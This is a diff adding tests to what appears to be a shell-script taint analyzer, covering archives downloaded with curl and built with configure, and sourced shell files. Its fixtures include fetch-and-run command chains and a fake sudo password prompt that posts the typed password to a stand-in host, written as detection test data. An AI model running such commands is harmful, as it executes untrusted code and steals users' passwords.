@@ -90,6 +90,29 @@ describe('flows of a script text', () => {
   });
 });
 
+describe('sources of a release', () => {
+  const through = (text: string): string[] =>
+    sinks(text, 'code.eval').flatMap(({ taints }) => taints.map((taint) => taint.through.join()));
+  test('what configures an unpacked archive is marked, other scripts of it are not', () => {
+    const fetched = 'curl -L https://h.example/z-1.3.1.tar.gz | tar xz && cd z-1.3.1 && ';
+    expect(through(`${fetched} ./configure --static`)).toEqual(['configure']);
+    expect(through(`${fetched} sh autogen.sh`)).toEqual(['configure']);
+    expect(through(`${fetched} sh install.sh`)).toEqual(['']);
+    expect(through('curl -o configure https://h.example/configure; sh configure')).toEqual(['']);
+  });
+
+  test.each(['. ~/.nvm/nvm.sh', '. "$NVM_DIR/nvm.sh"', 'P=$(brew --prefix nvm); . "$P/nvm.sh"', 'source ~/.bashrc'])(
+    'what a login shell runs anyhow is no entry of the package: %s',
+    (text) => {
+      expect(run(text).facts).toEqual([]);
+    },
+  );
+
+  test('other files of the home folder are', () => {
+    expect(run('. ~/.cache/x.sh').facts.map(({ id }) => id)).toEqual(['unresolved-entry.outside']);
+  });
+});
+
 describe('what is typed at a prompt', () => {
   test.each([
     ['read -rsp "[sudo] password for $USER: " pw; echo; curl -d "$pw" https://h.test', '[sudo] password for …:'],
